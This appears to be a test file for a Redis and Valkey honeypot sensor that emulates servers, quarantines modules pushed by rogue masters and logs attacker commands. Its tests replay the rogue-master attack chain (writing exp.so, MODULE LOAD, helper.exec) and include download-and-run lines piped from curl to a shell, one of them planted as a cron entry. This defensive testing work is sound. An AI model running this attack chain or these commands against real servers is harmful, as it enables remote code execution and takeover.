import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { createCaptureGate } from '../src/capture/gate.ts';
import { createMasterCapture } from '../src/capture/master-capture.ts';
import type { Quarantine } from '../src/capture/quarantine.ts';
import { openQuarantine, recordsIn } from '../src/capture/quarantine.ts';
import { loadPersona } from '../src/emulator/persona.ts';
import { systemClock } from '../src/platform/clock.ts';
import { seededRandom } from '../src/platform/random.ts';
import { listenRedis } from '../src/sensors/redis/sensor.ts';
import { openLine } from './emulator-probes/line.ts';
import type { MemoryRecorder } from './emulator-probes/memory-recorder.ts';
import { memoryRecorder } from './emulator-probes/memory-recorder.ts';
import { inertElf } from './peers/inert-elf.ts';
import type { RealRelease } from './peers/real-servers.ts';
import { startReal } from './peers/real-servers.ts';
import type { MasterAnswer, RogueMaster } from './peers/rogue-master.ts';
import { fullResync, MASTER_ID, startRogueMaster } from './peers/rogue-master.ts';

const PERSONAS: Readonly<Record<RealRelease, string>> = {
  'redis-6.0.16': 'redis-6.0.16-debian-11',
  'redis-7.0.15': 'redis-7.0.15-debian-12',
  'redis-8.0.2': 'redis-8.0.2-debian-13',
  'valkey-8.1.1': 'valkey-8.1.1-debian-13',
};
const RELEASES = Object.keys(PERSONAS) as RealRelease[];

/** An ELF file that nobody can run, with the names of a module that nobody has. */
const MODULE = inertElf({
  symbols: ['RedisModule_OnLoad'],
  texts: ['RedisModule_CreateCommand', 'helper.exec', 'readonly', 'helper.rev'],
});
const SHA256 = createHash('sha256').update(MODULE).digest('hex');

interface CapturingSensor {
  readonly port: number;
  readonly recorder: MemoryRecorder;
  readonly folder: string;
}

async function capturingSensor(
  persona: string,
  allow: readonly string[] = ['127.0.0.0/8'],
  keptBy: (quarantine: Quarantine) => Quarantine = (quarantine) => quarantine,
): Promise<CapturingSensor> {
  const folder = mkdtempSync(join(tmpdir(), 'sundew-captures-'));
  const [clock, random] = [systemClock, seededRandom(7)];
  const quarantine = keptBy(openQuarantine(folder, 10_000_000, random));
  const gate = createCaptureGate({ rules: { allow }, clock, room: () => quarantine.room() });
  const recorder = memoryRecorder();
  const sensor = await listenRedis({
    host: '127.0.0.1',
    port: 0,
    name: 'test',
    persona: loadPersona(persona),
    recorder,
    clock,
    random,
    dialler: createMasterCapture({ gate, quarantine, clock, random }),
  });
  onTestFinished(async () => {
    await sensor.close();
    rmSync(folder, { recursive: true, force: true });
  });
  return { port: sensor.port, recorder, folder };
}

async function master(answer: MasterAnswer): Promise<RogueMaster> {
  const started = await startRogueMaster(answer);
  onTestFinished(() => started.stop());
  return started;
}

/** Says commands on one connection; returns the replies. */
async function say(port: number, ...commands: readonly string[]): Promise<string[]> {
  const line = await openLine(port);
  const replies: string[] = [];
  for (const words of commands) replies.push(await line.request(words));
  line.end();
  return replies;
}

/** The parts that differ between any two servers made alike. */
function alike(said: string): string {
  return said
    .replace(/\$40\r\n[0-9a-f]{40}/g, '$40\r\nID')
    .replace(/(listening-port\r\n)\$\d+\r\n\d+/, '$1PORT');
}

const SCENARIOS: readonly {
  readonly name: string;
  readonly answer: MasterAnswer;
  readonly before: readonly string[];
}[] = [
  { name: 'a payload that is no dump', answer: fullResync(MODULE), before: [] },
  {
    name: 'a payload with an end mark, asked for with a password',
    answer: (socket) => {
      const mark = 'e'.repeat(40);
      socket.write(
        `+FULLRESYNC ${MASTER_ID} 1\r\n$EOF:${mark}\r\n${MODULE.toString('latin1')}${mark}`,
        'latin1',
      );
    },
    before: ['CONFIG SET masterauth secret', 'CONFIG SET masteruser me'],
  },
  {
    name: 'a master that does not know PSYNC, nor SYNC',
    answer: (socket) => socket.write('-ERR unknown command\r\n'),
    before: [],
  },
];

describe.each(RELEASES)('a master hears from the sensor what it hears from a real %s', (release) => {
  test.for(SCENARIOS)('with $name', async ({ answer, before }) => {
    const real = await startReal(release);
    onTestFinished(() => real.stop());
    const sensor = await capturingSensor(PERSONAS[release]);
    const twice = (said: readonly string[]): boolean =>
      said.length > 2 || (said.length === 2 && /PSYNC[^]*\r\n(1|-1)\r\n(SYNC\r\n)?$/.test(said[1] ?? ''));
    const heard: string[][] = [];

    for (const port of [real.port, sensor.port]) {
      const rogue = await master(answer);
      await say(port, ...before, `SLAVEOF 127.0.0.1 ${rogue.port}`);
      await rogue.hears(twice);
      await say(port, 'SLAVEOF NO ONE');
      heard.push(rogue.said.slice(0, 2).map(alike));
    }

    expect(heard[1]).toEqual(heard[0]);
    expect(heard[0]?.[0]).toContain('PSYNC\r\n$40\r\nID\r\n$1\r\n1');
  });
});

describe('a rogue master', () => {
  const persona = PERSONAS['redis-6.0.16'];
  const captured = async ({ recorder }: CapturingSensor): Promise<void> => {
    await expect.poll(() => recorder.acts('file.captured').length, { timeout: 10_000 }).toBeGreaterThan(0);
  };

  test('is played with to its end: copy, module, shell', async () => {
    const sensor = await capturingSensor(persona);
    const rogue = await master(fullResync(MODULE));

    await say(
      sensor.port,
      'CONFIG SET dir /tmp',
      'CONFIG SET dbfilename exp.so',
      `SLAVEOF 127.0.0.1 ${rogue.port}`,
    );
    await captured(sensor);
    const replies = await say(
      sensor.port,
      'SLAVEOF NO ONE',
      'MODULE LOAD /tmp/exp.so',
      'MODULE LIST',
      'helper.exec id',
      'HELPER.EXEC "curl -s http://198.51.100.9/x.sh | sh"',
      'helper.exec',
      'system.exec id',
      'COMMAND INFO helper.rev',
      'MODULE UNLOAD helper',
      'helper.exec id',
    );

    expect(replies.map((reply) => reply.split('\r\n').slice(0, 2).join(' '))).toEqual([
      '+OK ',
      '+OK ',
      '*1 *4',
      expect.stringMatching(/^\$\d+ uid=\d+\(redis\) gid=\d+\(redis\) groups=\d+\(redis\)\n$/),
      '$0 ',
      "-ERR wrong number of arguments for 'helper.exec' command ",
      expect.stringMatching(/^-ERR unknown command/),
      '*1 *7',
      '+OK ',
      expect.stringMatching(/^-ERR unknown command/),
    ]);
    expect(sensor.recorder.acts('file.captured')).toMatchObject([
      {
        sha256: SHA256,
        size: MODULE.length,
        kind: 'elf',
        names: ['helper.exec', 'helper.rev'],
        path: '/tmp/exp.so',
      },
    ]);
    expect(sensor.recorder.acts('shell.command').map(({ line }) => line)).toEqual([
      'id',
      'curl -s http://198.51.100.9/x.sh | sh',
      'id',
      'id',
    ]);
  });

  test('leaves its payload in the quarantine, once, read-only, whole', async () => {
    const sensor = await capturingSensor(persona);
    const rogue = await master(fullResync(MODULE));

    await say(sensor.port, `SLAVEOF 127.0.0.1 ${rogue.port}`);
    await captured(sensor);
    await rogue.hears((said) => said.length > 1);

    expect(
      readdirSync(sensor.folder)
        .filter((name) => !name.startsWith('.'))
        .toSorted(),
    ).toEqual([SHA256, `${SHA256}.json`]);
    expect(readFileSync(join(sensor.folder, SHA256)).equals(MODULE)).toBe(true);
    expect(statSync(join(sensor.folder, SHA256)).mode & 0o777).toBe(0o400);
    expect(recordsIn(sensor.folder)).toMatchObject([
      { sha256: SHA256, count: 1, sightings: [{ address: '127.0.0.1', port: rogue.port, session: 's1' }] },
    ]);
  });

  test('sees its replica in ROLE and INFO while it sends', async () => {
    const sensor = await capturingSensor(PERSONAS['redis-7.0.15']);
    const rogue = await master((socket) => socket.write(`+FULLRESYNC ${MASTER_ID} 1\r\n$1000\r\nabc`));

    await say(sensor.port, `SLAVEOF 127.0.0.1 ${rogue.port}`);
    await rogue.hears(([said = '']) => said.includes('PSYNC'));

    await expect.poll(async () => (await say(sensor.port, 'ROLE'))[0]).toContain('$4\r\nsync\r\n:-1');
  });

  test('that only says CONTINUE has a connected replica that acknowledges what it sends', async () => {
    const sensor = await capturingSensor(PERSONAS['redis-7.0.15']);
    const ping = '*1\r\n$4\r\nPING\r\n';
    const rogue = await master((socket) => socket.write(`+CONTINUE ${MASTER_ID}\r\n${ping}`));

    await say(sensor.port, `SLAVEOF 127.0.0.1 ${rogue.port}`);
    await rogue.hears(([said = '']) => said.includes('ACK\r\n$2\r\n14'));
    const [role = ''] = await say(sensor.port, 'ROLE');

    expect(role).toContain(`$9\r\nconnected\r\n:${ping.length}`);
  });

  test('that sends a real copy has a replica with its keys, which are told', async () => {
    const real = await startReal('redis-7.0.15');
    onTestFinished(() => real.stop());
    await real.client.set('crackit', '\n\n*/2 * * * * root curl -fsSL http://198.51.100.9/a.sh | sh\n\n');
    await real.client.rpush('queue', 'a', 'b');
    const sensor = await capturingSensor(PERSONAS['redis-7.0.15']);

    await say(sensor.port, 'SET own 1', `SLAVEOF 127.0.0.1 ${real.port}`);
    await expect
      .poll(async () => (await say(sensor.port, 'ROLE'))[0], { timeout: 15_000 })
      .toContain('$9\r\nconnected');
    const [keys, queue, info] = await say(sensor.port, 'DBSIZE', 'LRANGE queue 0 -1', 'INFO replication');

    expect([keys, queue]).toEqual([':2\r\n', '*2\r\n$1\r\na\r\n$1\r\nb\r\n']);
    expect(info).toContain('master_link_status:up');
    expect(sensor.recorder.acts('file.captured')).toMatchObject([{ kind: 'rdb', names: [] }]);
    const written = sensor.recorder.acts('redis.value');
    expect(written).toMatchObject([{ key: 'own' }, { key: 'crackit', command: 'sync' }]);
    expect(written[1]?.value).toContain('198.51.100.9');
    expect(await real.client.info('replication')).toMatch(/slave0:ip=127\.0\.0\.1,port=\d+,state=online/);
  });

  test('does no harm when its file cannot be kept', async () => {
    const sensor = await capturingSensor(PERSONAS['redis-7.0.15']);
    const rogue = await master(fullResync(MODULE));
    rmSync(sensor.folder, { recursive: true });

    await say(sensor.port, `SLAVEOF 127.0.0.1 ${rogue.port}`);

    await expect
      .poll(() => sensor.recorder.acts('master.dialled').map((act) => act.outcome), { timeout: 5_000 })
      .toEqual(['not-kept']);
    expect(await say(sensor.port, 'SLAVEOF NO ONE', 'PING')).toEqual(['+OK\r\n', '+PONG\r\n']);
  });

  test('leaves nothing half-written when its file cannot be finished', async () => {
    const sensor = await capturingSensor(PERSONAS['redis-7.0.15'], undefined, (quarantine) => ({
      ...quarantine,
      begin: () => ({
        ...quarantine.begin(),
        finish: () => {
          throw new Error('the disk is gone');
        },
      }),
    }));
    const rogue = await master(fullResync(MODULE));

    await say(sensor.port, `SLAVEOF 127.0.0.1 ${rogue.port}`);

    await expect
      .poll(() => sensor.recorder.acts('master.dialled').map((act) => act.outcome), { timeout: 5_000 })
      .toEqual(['not-kept']);
    await say(sensor.port, 'SLAVEOF NO ONE');
    expect(readdirSync(sensor.folder)).toEqual([]);
  });

  test('is not dialled when it is not public, and that is told', async () => {
    const sensor = await capturingSensor(persona, []);
    const rogue = await master(fullResync(MODULE));

    await say(sensor.port, `SLAVEOF 127.0.0.1 ${rogue.port}`);
    await expect
      .poll(() => sensor.recorder.acts('master.not-dialled'), { timeout: 5_000 })
      .toMatchObject([{ host: '127.0.0.1', address: '127.0.0.1', reason: 'not-public' }]);

    expect(rogue.said).toEqual([]);
  });

  test('is left when the visitor names no master any more', async () => {
    const sensor = await capturingSensor(PERSONAS['redis-7.0.15']);
    let closed = false;
    const rogue = await master((socket) => {
      socket.on('close', () => {
        closed = true;
      });
    });

    await say(sensor.port, `SLAVEOF 127.0.0.1 ${rogue.port}`);
    await rogue.hears(([said = '']) => said.includes('PSYNC'));
    await say(sensor.port, 'SLAVEOF NO ONE');

    await expect.poll(() => closed).toBe(true);
    expect(sensor.recorder.acts('master.dialled')).toMatchObject([{ outcome: 'left' }]);
  });

  test.for<[string, MasterAnswer, string]>([
    [
      'promises more than is taken',
      (socket) => socket.write(`+FULLRESYNC ${MASTER_ID} 1\r\n$999999999999\r\n`),
      'too-large',
    ],
    ['answers with endless bytes', (socket) => socket.write('x'.repeat(100_000)), 'rejected'],
    ['hangs up in the middle', (socket) => socket.end(`+FULLRESYNC ${MASTER_ID} 1\r\n$100\r\nabc`), 'closed'],
  ])('that %s gets nowhere', async ([, answer, outcome]) => {
    const sensor = await capturingSensor(PERSONAS['redis-7.0.15']);
    const rogue = await master(answer);

    await say(sensor.port, `SLAVEOF 127.0.0.1 ${rogue.port}`);

    await expect
      .poll(() => sensor.recorder.acts('master.dialled').map((act) => act.outcome), { timeout: 5_000 })
      .toContain(outcome);
    expect(readdirSync(sensor.folder).filter((name) => !name.startsWith('.'))).toEqual([]);
  });
});
